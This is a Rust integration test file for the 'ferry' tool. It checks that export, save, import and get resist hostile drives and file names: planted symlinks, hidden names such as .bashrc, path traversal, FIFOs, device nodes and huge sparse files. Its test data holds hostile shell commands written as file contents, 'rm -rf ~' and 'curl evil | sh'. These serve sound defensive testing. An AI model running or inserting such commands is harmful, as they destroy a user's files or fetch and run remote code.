//! Files whose names or contents a stranger chose, against real `ferry` processes on
//! 127.0.0.1: a drive with links planted where `ferry dtn export` writes, bundles
//! whose file names are hidden files or paths saved with `ferry dtn save`, and a
//! drive holding FIFOs, devices, links to /dev/zero and a huge sparse file for
//! `ferry dtn import`, and a ticket naming its download `.bashrc` for `ferry get`.
//! Nothing outside the folder may change, and nothing may hang.

// The harness is shared with other test files, whose helpers these tests do not
// all need.

use std::fs;
use std::os::unix::fs::{FileTypeExt, symlink};
use std::path::Path;
use std::process::Command;
use std::time::Duration;

use ferry_node::control::types::{GetResult, ImportReport, InboxItem, ShareResult};
use ferry_node::dtn::folder::MAX_CONTENT_FILE;
use ferry_testkit::harness::{
    Node, Run, SPREAD_TIMEOUT, ferry_binary, random_bytes, run_with_deadline, wait_until,
};

/// Long enough for any sound import here; an import that blocks on a FIFO or
/// reads a huge file would pass it, and the harness then fails the test.
const IMPORT_DEADLINE: Duration = Duration::from_secs(30);

fn inbox(node: &Node) -> Vec<InboxItem> {
    node.ferry(&["dtn", "inbox", "--json"]).ok().json()
}

/// `ferry ARGS` against `node`, run in `cwd`.
fn ferry_at(node: &Node, cwd: &Path, args: &[&str]) -> Run {
    let mut command = Command::new(ferry_binary());
    command
        .current_dir(cwd)
        .arg("--data-dir")
        .arg(node.data_dir())
        .args(args);
    run_with_deadline(command, b"", IMPORT_DEADLINE)
}

fn mkfifo(path: &Path) {
    let made = Command::new("mkfifo").arg(path).status().unwrap();
    assert!(made.success(), "mkfifo {}", path.display());
}

#[test]
fn export_writes_through_no_link_planted_in_the_folder() {
    let village = Node::start("village");
    let town_id = Node::start("town").id().peer_id;
    village
        .ferry(&["dtn", "send", &town_id, "carried by hand"])
        .ok();
    let work = tempfile::tempdir().unwrap();
    let shared = work.path().join("song.ogg");
    fs::write(&shared, random_bytes("song", 100_000)).unwrap();
    let share: ShareResult = village
        .ferry(&["share", shared.to_str().unwrap(), "--json"])
        .ok()
        .json();

    // The victims: files outside the drive, the size of what would be written
    // over them, and a directory.
    let victim = work.path().join("bashrc");
    fs::write(&victim, "the user's shell settings\n").unwrap();
    let same_size = work.path().join("same-size");
    fs::write(&same_size, vec![b'v'; 100_000]).unwrap();
    let victim_dir = work.path().join("documents");
    fs::create_dir(&victim_dir).unwrap();

    // A hostile drive: links where export writes its temporary files, its
    // README and a content file.
    let drive = work.path().join("drive");
    let folder = drive.join("ferry-dtn");
    fs::create_dir_all(folder.join("content")).unwrap();
    for name in ["README.partial", "acks.partial", "README.txt"] {
        symlink(&victim, folder.join(name)).unwrap();
    }
    let content_file = folder.join("content").join(&share.id);
    symlink(&same_size, &content_file).unwrap();
    let exported = village.ferry(&[
        "dtn",
        "export",
        drive.to_str().unwrap(),
        "--content",
        &share.id,
    ]);
    let exported = exported.ok();
    assert!(
        exported.stdout.contains("exported 1 bundles"),
        "{exported:?}"
    );
    assert_eq!(
        fs::read_to_string(&victim).unwrap(),
        "the user's shell settings\n",
        "export wrote through a link planted in the folder"
    );
    assert_eq!(fs::read(&same_size).unwrap(), vec![b'v'; 100_000]);
    let readme = fs::symlink_metadata(folder.join("README.txt")).unwrap();
    assert!(readme.is_file(), "the README replaced the link: {readme:?}");
    let content = fs::symlink_metadata(&content_file).unwrap();
    assert!(content.is_file(), "the content replaced the link");
    assert_eq!(fs::read(&content_file).unwrap(), fs::read(&shared).unwrap());

    // A folder (or its bundles folder) that is a link elsewhere is refused.
    let linked_bundles = work.path().join("drive2");
    fs::create_dir_all(linked_bundles.join("ferry-dtn")).unwrap();
    symlink(
        &victim_dir,
        linked_bundles.join("ferry-dtn").join("bundles"),
    )
    .unwrap();
    let linked_root = work.path().join("drive3");
    fs::create_dir(&linked_root).unwrap();
    symlink(&victim_dir, linked_root.join("ferry-dtn")).unwrap();
    for drive in [&linked_bundles, &linked_root] {
        let refused = village.ferry(&["dtn", "export", drive.to_str().unwrap()]);
        assert!(!refused.status.success(), "{refused:?}");
        assert!(refused.stderr.contains("symbolic link"), "{refused:?}");
    }
    assert_eq!(
        fs::read_dir(&victim_dir).unwrap().count(),
        0,
        "nothing written into the linked directory"
    );
}

#[test]
fn save_never_writes_a_hidden_name_or_through_a_link_a_sender_chose() {
    let village = Node::start("village");
    let town = Node::start("town");
    let town_id = town.id().peer_id;
    let sent = [
        (".bashrc", "rm -rf ~"),
        (".profile", "curl evil | sh"),
        ("..%2Fx", "outside"),
        ("notes.txt", "notes"),
        ("report.txt", "report"),
    ];
    for (name, text) in sent {
        village
            .ferry(&["dtn", "send", &format!("dtn://{town_id}/file/{name}"), text])
            .ok();
    }
    village.ferry(&["connect", &town.addr()]).ok();
    let items = wait_until("every file in town's inbox", SPREAD_TIMEOUT, || {
        let items = inbox(&town);
        if items.len() == sent.len() {
            Ok(items)
        } else {
            Err(format!("{} of {}", items.len(), sent.len()))
        }
    });
    let id_of = |text: &str| {
        items
            .iter()
            .find(|i| i.size == text.len() as u64 && i.kind == "file")
            .map(|i| i.id.clone())
            .unwrap_or_else(|| panic!("no file of {text:?}: {items:#?}"))
    };

    let work = tempfile::tempdir().unwrap();
    let cwd = work.path().join("home");
    fs::create_dir(&cwd).unwrap();
    fs::write(cwd.join(".bashrc"), "the user's own\n").unwrap();
    let victim = work.path().join("victim");
    fs::write(&victim, "precious\n").unwrap();
    // Links where a save writes its temporary file, and at a file's name.
    symlink(&victim, cwd.join("notes.ferry-partial")).unwrap();
    symlink(&victim, cwd.join("report.txt")).unwrap();

    let saved = ferry_at(&town, &cwd, &["dtn", "save", &id_of("rm -rf ~")]).ok();
    assert!(
        saved.stderr.contains("saving it as \"_bashrc\""),
        "the rename is said: {saved:?}"
    );
    assert_eq!(fs::read_to_string(cwd.join("_bashrc")).unwrap(), "rm -rf ~");
    assert_eq!(
        fs::read_to_string(cwd.join(".bashrc")).unwrap(),
        "the user's own\n"
    );
    ferry_at(&town, &cwd, &["dtn", "save", &id_of("curl evil | sh")]).ok();
    assert!(!cwd.join(".profile").exists(), "no hidden file written");
    assert_eq!(
        fs::read_to_string(cwd.join("_profile")).unwrap(),
        "curl evil | sh"
    );
    ferry_at(&town, &cwd, &["dtn", "save", &id_of("outside")]).ok();
    assert_eq!(fs::read_to_string(cwd.join("x")).unwrap(), "outside");
    assert!(!work.path().join("x").exists(), "nothing written outside");
    ferry_at(&town, &cwd, &["dtn", "save", &id_of("notes")]).ok();
    assert_eq!(fs::read_to_string(cwd.join("notes.txt")).unwrap(), "notes");

    // A link at the name: refused without --force, replaced (not followed) with it.
    let report = id_of("report");
    let refused = ferry_at(&town, &cwd, &["dtn", "save", &report]);
    assert!(!refused.status.success(), "{refused:?}");
    assert!(refused.stderr.contains("--force"), "{refused:?}");
    ferry_at(&town, &cwd, &["dtn", "save", &report, "--force"]).ok();
    let replaced = fs::symlink_metadata(cwd.join("report.txt")).unwrap();
    assert!(replaced.is_file(), "the link itself was replaced");
    assert_eq!(
        fs::read_to_string(cwd.join("report.txt")).unwrap(),
        "report"
    );

    // The user may name any file with -o, a hidden one included.
    let chosen = cwd.join(".chosen");
    ferry_at(
        &town,
        &cwd,
        &[
            "dtn",
            "save",
            &id_of("notes"),
            "-o",
            chosen.to_str().unwrap(),
        ],
    )
    .ok();
    assert_eq!(fs::read_to_string(&chosen).unwrap(), "notes");

    assert_eq!(fs::read_to_string(&victim).unwrap(), "precious\n");
}

#[test]
fn import_skips_fifos_devices_links_and_huge_files_without_hanging() {
    let village = Node::start("village");
    let town = Node::start("town");
    let town_id = town.id().peer_id;
    village.ferry(&["dtn", "send", &town_id, "sound"]).ok();
    let work = tempfile::tempdir().unwrap();
    let drive = work.path().join("drive");
    village
        .ferry(&["dtn", "export", drive.to_str().unwrap(), "--to", &town_id])
        .ok();
    let folder = drive.join("ferry-dtn");
    let bundles = folder.join("bundles");
    let content = folder.join("content");
    fs::create_dir(&content).unwrap();

    // Names that would pass the name checks; what they are must not.
    let hash = |seed: &str| blake3::hash(seed.as_bytes()).to_hex().to_string();
    mkfifo(&bundles.join("fifo.bundle"));
    symlink("/dev/zero", bundles.join("zero.bundle")).unwrap();
    fs::remove_file(folder.join("acks.json")).unwrap();
    mkfifo(&folder.join("acks.json"));
    mkfifo(&content.join(hash("fifo")));
    symlink("/dev/zero", content.join(hash("zero"))).unwrap();
    let sparse = fs::File::create(content.join(hash("sparse"))).unwrap();
    sparse.set_len(MAX_CONTENT_FILE + 1).unwrap();
    drop(sparse);
    // A device node (a copy of /dev/zero), where this test may make one.
    let device = content.join(hash("device"));
    let made_device = Command::new("mknod")
        .arg(&device)
        .args(["c", "1", "5"])
        .status()
        .is_ok_and(|s| s.success())
        && fs::symlink_metadata(&device).is_ok_and(|m| m.file_type().is_char_device());
    if !made_device {
        eprintln!("note: cannot make a device node here (not root?); that case is not tried");
    }

    let started = std::time::Instant::now();
    let run = ferry_at(
        &town,
        work.path(),
        &["dtn", "import", drive.to_str().unwrap(), "--json"],
    )
    .ok();
    println!("import of the hostile drive took {:?}", started.elapsed());
    let report: ImportReport = run.json();
    assert_eq!(report.delivered, 1, "the sound bundle is taken: {report:?}");
    let reasons: Vec<String> = report
        .rejected
        .iter()
        .map(|(f, why)| format!("{f}: {why}"))
        .collect();
    let mut expected = vec![
        ("fifo.bundle".to_owned(), "FIFO"),
        ("zero.bundle".to_owned(), "symbolic link"),
        ("acks.json".to_owned(), "FIFO"),
        (hash("fifo"), "FIFO"),
        (hash("zero"), "symbolic link"),
        (hash("sparse"), "over the"),
    ];
    if made_device {
        expected.push((hash("device"), "device"));
    }
    for (file, words) in &expected {
        assert!(
            reasons
                .iter()
                .any(|r| r.contains(file.as_str()) && r.contains(words)),
            "no rejection of {file} saying {words:?}: {reasons:#?}"
        );
    }
    assert_eq!(reasons.len(), expected.len(), "{reasons:#?}");
    let items = inbox(&town);
    assert_eq!(items.len(), 1);
    assert_eq!(items[0].text.as_deref(), Some("sound"));

    // A ferry-dtn folder that is a link to one elsewhere is not followed.
    let linked = work.path().join("linked-drive");
    fs::create_dir(&linked).unwrap();
    symlink(&folder, linked.join("ferry-dtn")).unwrap();
    let refused = ferry_at(
        &town,
        work.path(),
        &["dtn", "import", linked.to_str().unwrap()],
    );
    assert!(!refused.status.success(), "{refused:?}");
    assert!(refused.stderr.contains("symbolic link"), "{refused:?}");
}

#[test]
fn get_never_writes_a_hidden_name_a_sharer_chose() {
    let sharer = Node::start("sharer");
    let getter = Node::start("getter");
    let work = tempfile::tempdir().unwrap();
    let shared = work.path().join("src");
    fs::create_dir(&shared).unwrap();
    fs::write(shared.join(".bashrc"), "curl evil | sh\n").unwrap();
    let share: ShareResult = sharer
        .ferry(&["share", shared.join(".bashrc").to_str().unwrap(), "--json"])
        .ok()
        .json();
    let cwd = work.path().join("home");
    fs::create_dir(&cwd).unwrap();
    let got: GetResult = ferry_at(&getter, &cwd, &["get", &share.ticket, "--json"])
        .ok()
        .json();
    assert_eq!(got.output, cwd.join("_bashrc").to_str().unwrap(), "{got:?}");
    assert!(!cwd.join(".bashrc").exists(), "no hidden file written");
    assert_eq!(
        fs::read_to_string(cwd.join("_bashrc")).unwrap(),
        "curl evil | sh\n"
    );
}
